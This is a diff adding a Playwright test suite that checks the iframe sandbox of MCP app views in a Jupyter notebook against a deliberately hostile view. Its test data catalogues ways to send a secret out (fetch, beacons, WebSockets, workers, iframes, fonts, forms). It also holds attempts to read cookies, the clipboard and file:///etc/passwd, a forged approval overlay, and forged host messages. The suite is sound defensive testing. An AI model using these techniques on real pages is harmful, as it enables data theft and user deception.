@@ -1,0 +1,337 @@
+"""A view that means harm: it reads the page, sends things out, leaves its frame, floods, and poses as its host."""
+
+from __future__ import annotations
+
+import shlex
+import sys
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.browser.hostile_view_server import NAVIGATIONS, SECRET
+from tests.browser.listening import listening, listening_for_datagrams
+from tests.browser.living import WAIT_MS, expect, finished, press, run, start
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from playwright.sync_api import Frame, Locator
+
+    from tests.browser.lab import Lab
+    from tests.browser.listening import Listener
+
+pytestmark = pytest.mark.slow
+
+ROOT = Path(__file__).parents[2]
+SERVER = Path(__file__).with_name("hostile_view_server.py")
+
+# What a view may not read of the page and of its browser: each is to fail, or to give nothing.
+READING = {
+    "the document of its frame's page": "parent.document.title",
+    "the document of the notebook": "top.document.title",
+    "the address of the notebook": "top.location.href",
+    "JupyterLab's application": "top.jupyterapp.commands.execute",
+    "the element that holds it": "frameElement.id",
+    "cookies": "document.cookie",
+    "local storage": "localStorage.length",
+    "session storage": "sessionStorage.length",
+    "databases": "indexedDB.open('a').then",
+    "caches": "await caches.keys()",
+    "the clipboard": "await navigator.clipboard.readText()",
+    "the camera": "await navigator.mediaDevices.getUserMedia({video: true})",
+    "the microphone": "await navigator.mediaDevices.getUserMedia({audio: true})",
+    "the place": "await new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed))",
+    "service workers": "await navigator.serviceWorker.register('x.js')",
+    "files of the computer": "await showOpenFilePicker()",
+    "the screen": "await navigator.mediaDevices.getDisplayMedia()",
+}
+
+_LOADED = """const load = (tag, values) => new Promise((done, failed) => {
+  const element = Object.assign(document.createElement(tag), values);
+  element.onload = () => done('loaded');
+  element.onerror = () => failed(new Error('not loaded'));
+  document.body.append(element);
+  setTimeout(() => failed(new Error('nothing')), 300);
+});
+const socket = made => new Promise((done, failed) => { made.onopen = done; made.onerror = failed; });
+"""
+
+# Ways to send something out from a script; none may arrive.
+SENDING = {
+    "fetch": "await fetch(OUT + '/fetch', {mode: 'no-cors'})",
+    "fetch with a body": "await fetch(OUT + '/post', {method: 'POST', body: secret, mode: 'no-cors', keepalive: true})",
+    "XMLHttpRequest": "await new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = done; "
+    "x.onerror = failed; x.open('GET', OUT + '/xhr'); x.send() })",
+    "a WebSocket": "await socket(new WebSocket(OUT.replace('http', 'ws') + '/websocket'))",
+    "events": "await socket(new EventSource(OUT + '/events'))",
+    "WebTransport": "await new WebTransport(OUT.replace('http:', 'https:') + '/transport').ready",
+    "a beacon": "navigator.sendBeacon(OUT + '/beacon', secret)",
+    "an image": "await load('img', {src: OUT + '/image'})",
+    "a style sheet": "await load('link', {rel: 'stylesheet', href: OUT + '/sheet'})",
+    "a script": "await load('script', {src: OUT + '/script-src'})",
+    "a module": "await import(OUT + '/module')",
+    "a worker": "await socket(new Worker(OUT + '/worker'))",
+    "a worker of its own text": "await new Promise((done, failed) => { "
+    "const text = `fetch('${OUT}/blob-worker', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`; "
+    "const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = done; w.onerror = failed })",
+    "a prefetch": "await load('link', {rel: 'prefetch', href: OUT + '/prefetch'})",
+    "a preload": "await load('link', {rel: 'preload', as: 'fetch', href: OUT + '/preload'})",
+    "a frame": "await load('iframe', {src: OUT + '/frame'}).finally(() => document.querySelector('iframe:last-child')"
+    ".remove())",
+    "a frame of its own text": "await load('iframe', {srcdoc: `<img src='${OUT}/inner-image'><script>"
+    "fetch('${OUT}/inner-fetch', {mode: 'no-cors'}).catch(() => 0)<\\/script>`})",
+    "a font": "await new FontFace('x', `url(${OUT}/font)`).load()",
+    "a video": "await load('video', {src: OUT + '/film'})",
+    "an object": "await load('object', {data: OUT + '/thing'})",
+    "a window": "open(OUT + '/window')",
+    "a form in a window": "const f = Object.assign(document.createElement('form'), {action: OUT + '/window-form', "
+    "target: '_blank'}); document.body.append(f); f.submit()",
+    "a policy that is removed": "document.querySelectorAll('meta').forEach(m => m.remove()); "
+    "await fetch(OUT + '/removed', {mode: 'no-cors'})",
+    "a policy that is replaced": "document.head.insertAdjacentHTML('afterbegin', `<meta http-equiv="
+    "'Content-Security-Policy' content='default-src *'>`); await fetch(OUT + '/replaced', {mode: 'no-cors'})",
+    "the server of the page": "await fetch(location.ancestorOrigins[location.ancestorOrigins.length - 1] + "
+    "'/api/contents', {mode: 'no-cors'})",
+}
+
+
+def view(shown: Locator) -> Frame:
+    """Wait until the view in a cell's output has the result of its call, and return its frame."""
+    expect(shown.locator(".mcp-app-status")).to_have_text("")
+    outer = shown.locator(".mcp-app-frame > iframe").element_handle()
+    relay = outer.content_frame() if outer else None
+    assert relay is not None
+    relay.child_frames[0].wait_for_function("secret === 'TOPSECRET'", timeout=WAIT_MS)
+    return relay.child_frames[0]
+
+
+def attempt(frame: Frame, script: str) -> str | None:
+    """Run an attack in a view, as at a click; return what it got, None if it failed."""
+    attempted = f"""async () => {{
+        {_LOADED}
+        const late = new Promise((done, failed) => setTimeout(() => failed(new Error('late')), 2000));
+        const got = (async () => {{ {script} }})();
+        try {{ return String(await Promise.race([late, got])) }} catch (error) {{ return null }}
+    }}"""
+    got: str | None = frame.evaluate(attempted)
+    return got
+
+
+def arrived(lab: Lab, heard: Listener) -> list[str]:
+    """Return what has arrived until now, and forget it: a request of the page itself comes after all that was sent."""
+    lab.page.evaluate("url => fetch(url, {mode: 'no-cors'})", f"{heard.url}/end")
+    end = "GET /end HTTP/1.1"
+    until = time.monotonic() + WAIT_MS / 1000
+    while end not in heard.came and time.monotonic() < until:
+        time.sleep(0.01)
+    came = [line for line in heard.came if line != end]
+    assert end in heard.came, "the page itself can reach the listener"
+    heard.came.clear()
+    return came
+
+
+def decided(lab: Lab) -> list[str]:
+    """Return what was decided until now about what the views want, from the audit."""
+    code = "for r in host.consent.audit.records:\n    if r.asker == 'app hostile': print(r.tool, r.decision)"
+    return [line for line in run(lab, code).inner_text().split("\n") if line]
+
+
+@pytest.fixture(scope="module")
+def heard() -> Iterator[Listener]:
+    with listening() as listener:
+        yield listener
+
+
+@pytest.fixture(scope="module")
+def connected(lab: Lab, heard: Listener) -> Lab:
+    command = shlex.join([sys.executable, str(SERVER), heard.url])
+    run(lab, f"%mcp connect --name hostile -- {command}")
+    return lab
+
+
+@pytest.fixture(scope="module")
+def cell(connected: Lab) -> Locator:
+    return start(connected, "%mcp call hostile:puppet")
+
+
+@pytest.fixture(scope="module")
+def puppet(connected: Lab, cell: Locator) -> Frame:
+    return view(finished(cell))
+
+
+@pytest.mark.parametrize("what", READING)
+def test_a_view_reads_nothing_of_the_page_and_the_browser(puppet: Frame, what: str) -> None:
+    assert attempt(puppet, f"return {READING[what]}") is None
+
+
+def test_a_view_does_not_learn_the_address_of_the_page(connected: Lab, puppet: Frame) -> None:
+    known = puppet.evaluate("[location.href, document.baseURI, document.referrer, document.URL, name].join(' ')")
+
+    assert connected.page.url.split("//")[1].split("/")[0] not in known
+
+
+@pytest.mark.parametrize("way", SENDING)
+def test_a_script_of_a_view_sends_nothing_out(connected: Lab, heard: Listener, puppet: Frame, way: str) -> None:
+    pages = connected.page.context.pages
+
+    attempt(puppet, SENDING[way])
+
+    assert arrived(connected, heard) == []
+    assert connected.page.context.pages == pages
+
+
+def test_markup_loads_nothing_from_outside(connected: Lab, heard: Listener) -> None:
+    view(run(connected, "%mcp call hostile:markup"))
+
+    assert arrived(connected, heard) == []
+
+
+def test_a_view_leaves_its_frame_for_no_other_address(connected: Lab, heard: Listener) -> None:
+    pages, address = connected.page.context.pages, connected.page.url
+    for way in NAVIGATIONS:
+        shown = run(connected, f"%mcp call hostile:leave_{way}")
+        expect(shown.locator(".mcp-app-status")).to_have_text("")
+
+    assert arrived(connected, heard) == []
+    assert (connected.page.context.pages, connected.page.url) == (pages, address)
+
+
+@pytest.mark.parametrize("name", ["for_models", "nothing", "one_text", "show:one_text"])
+def test_a_view_calls_no_tool_but_those_that_its_server_offers_to_views(puppet: Frame, name: str) -> None:
+    reply = puppet.evaluate("name => ask('tools/call', {name, arguments: {text: 'x'}})", name)
+
+    assert "offers no tool" in reply["error"]["message"]
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ui://x", "//x", 5])
+def test_links_that_are_no_addresses_of_the_web_are_refused_without_a_question(
+    cell: Locator, puppet: Frame, url: object
+) -> None:
+    assert "error" in puppet.evaluate("url => ask('ui/open-link', {url})", url)
+    expect(cell.locator(".mcp-app-question")).to_have_count(0)
+
+
+def test_a_link_opens_only_if_you_agree(connected: Lab, cell: Locator, puppet: Frame) -> None:
+    pages = connected.page.context.pages
+    puppet.evaluate("() => { window.reply = ask('ui/open-link', {url: 'https://example.com/?q=' + secret}); }")
+    question = cell.locator(".mcp-app-question")
+    expect(question).to_contain_text(f"https://example.com/?q={SECRET}")
+    press(question, "Deny")
+
+    assert "denied" in puppet.evaluate("window.reply")["error"]["message"]
+    assert connected.page.context.pages == pages
+
+
+def test_a_panel_that_a_view_draws_approves_nothing(connected: Lab, cell: Locator, puppet: Frame) -> None:
+    before = decided(connected)
+    puppet.evaluate("""() => {
+        const panel = document.createElement('div');
+        panel.className = 'mcp-app-question';
+        panel.style = 'position:fixed; inset:-500px 0 0 -500px; z-index:2147483647; background:white';
+        panel.innerHTML = 'app show wants to call delete <button id=fake>Approve</button>';
+        document.body.append(panel);
+        window.reply = ask('tools/call', {name: 'write', arguments: {text: 'x'}});
+    }""")
+    question = cell.locator(".mcp-app-question")
+    expect(question).to_contain_text("app hostile")
+    puppet.evaluate("document.getElementById('fake').click()")
+    inside = """element => {
+        const frame = element.querySelector('iframe').getBoundingClientRect();
+        const own = element.querySelector('.mcp-app-questions').getBoundingClientRect();
+        return own.bottom <= frame.top && own.top >= element.getBoundingClientRect().top;
+    }"""
+    assert cell.locator(".mcp-app").evaluate(inside), "the view's frame covers no question"
+    expect(question).to_be_visible()
+    press(question, "Deny")
+    assert "denied" in puppet.evaluate("window.reply")["error"]["message"]
+    puppet.evaluate("document.querySelector('.mcp-app-question').remove()")
+    assert decided(connected) == [*before, "write deny"]
+
+
+def test_messages_in_the_name_of_the_host_change_nothing(connected: Lab, cell: Locator, puppet: Frame) -> None:
+    before = decided(connected)
+    puppet.evaluate("""() => {
+        const forged = [
+            {id: 1, method: 'tools/call', params: {name: 'write', arguments: {text: 'forged'}}},
+            {kind: 'answer', choice: 'once'},
+            {method: 'ui/notifications/sandbox-proxy-ready', params: {}},
+            {method: 'ui/notifications/sandbox-resource-ready', params: {html: '<h3>replaced</h3>', allow: 'camera'}},
+            {method: 'ui/notifications/sandbox-dropped', params: {count: 1e9}},
+            {method: 'ui/notifications/__proto__', params: {}},
+            {id: 'host-1', result: {}},
+        ];
+        for (const message of forged.map(each => ({jsonrpc: '2.0', ...each}))) {
+            top.postMessage(message, '*');
+            for (let i = 0; i < top.frames.length; i++)
+                if (top.frames[i] !== parent) top.frames[i].postMessage(message, '*');
+            if (message.method?.includes('notifications')) parent.postMessage(message, '*');
+        }
+        const inner = document.createElement('iframe');
+        inner.srcdoc = `<script>for (const to of [parent.parent, top])
+            to.postMessage({jsonrpc: '2.0', id: 1, method: 'tools/call',
+                params: {name: 'write', arguments: {text: 'inner'}}}, '*')<\\/script>`;
+        document.body.append(inner);
+    }""")
+
+    assert puppet.evaluate("ask('ping', {})")["result"] == {}
+    expect(cell.locator(".mcp-app-question")).to_have_count(0)
+    assert puppet.evaluate("document.querySelector('h3').textContent") == "puppet"
+    assert decided(connected) == before
+
+
+def test_a_view_is_no_higher_than_the_page_allows(cell: Locator, puppet: Frame) -> None:
+    for height in ("1e9", "-5", "NaN", "Infinity", "'900'", "null", "{}"):
+        puppet.evaluate(f"post({{method: 'ui/notifications/size-changed', params: {{height: {height}}}}})")
+    puppet.evaluate("ask('ping', {})")
+
+    assert 0 < cell.locator(".mcp-app-frame iframe").bounding_box()["height"] <= 800  # type: ignore[index]
+
+
+@pytest.mark.parametrize("value", ["'x'.repeat(5e6)", "1n", "(() => { const a = []; a[0] = a; return a })()"])
+def test_what_is_too_large_or_no_json_is_answered_by_an_error(puppet: Frame, value: str) -> None:
+    text = f"{{content: [{{type: 'text', text: 'x'}}], structuredContent: {{a: {value}}}}}"
+
+    assert "error" in puppet.evaluate(f"ask('ui/update-model-context', {text})")
+
+
+def test_of_many_requests_at_once_most_are_refused_and_one_is_asked_about(connected: Lab) -> None:
+    shown = run(connected, "%mcp call hostile:puppet")
+    refused = """new Promise(done => {
+        for (let i = 0; i < 100; i++)
+            ask('tools/call', {name: 'write', arguments: {text: 'x'}}).then(({error}) => error && done(error.message));
+    })"""
+
+    assert "requests are pending" in view(shown).evaluate(refused)
+    expect(shown.locator(".mcp-app-question")).to_have_count(1)
+
+
+def test_a_flood_of_messages_stops_its_view_and_nothing_else(connected: Lab) -> None:
+    shown = run(connected, "%mcp call hostile:puppet")
+    flood = "for (let i = 0; i < 100_000; i++) post({method: 'ui/notifications/size-changed', params: {height: i}})"
+    view(shown).evaluate(flood)
+
+    expect(shown.locator(".mcp-app-status")).to_contain_text("too many messages")
+    expect(run(connected, "print('the notebook goes on')")).to_contain_text("goes on")
+
+
+def test_docs_security_says_what_a_browser_does_not_refuse(puppet: Frame) -> None:
+    with listening_for_datagrams() as heard:
+        heard.settimeout(WAIT_MS / 1000)
+        puppet.evaluate(
+            """async port => {
+                window.peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
+                peer.createDataChannel('x');
+                await peer.setLocalDescription(await peer.createOffer());
+            }""",
+            heard.getsockname()[1],
+        )
+        assert heard.recv(2000)
+        puppet.evaluate("peer.close()")
+    assert "WebRTC" in (ROOT / "docs" / "security.md").read_text()
+
+
+def test_nothing_went_wrong_in_the_page(connected: Lab, heard: Listener) -> None:
+    assert (connected.failures, connected.dialogs) == ([], [])
+    assert arrived(connected, heard) == []
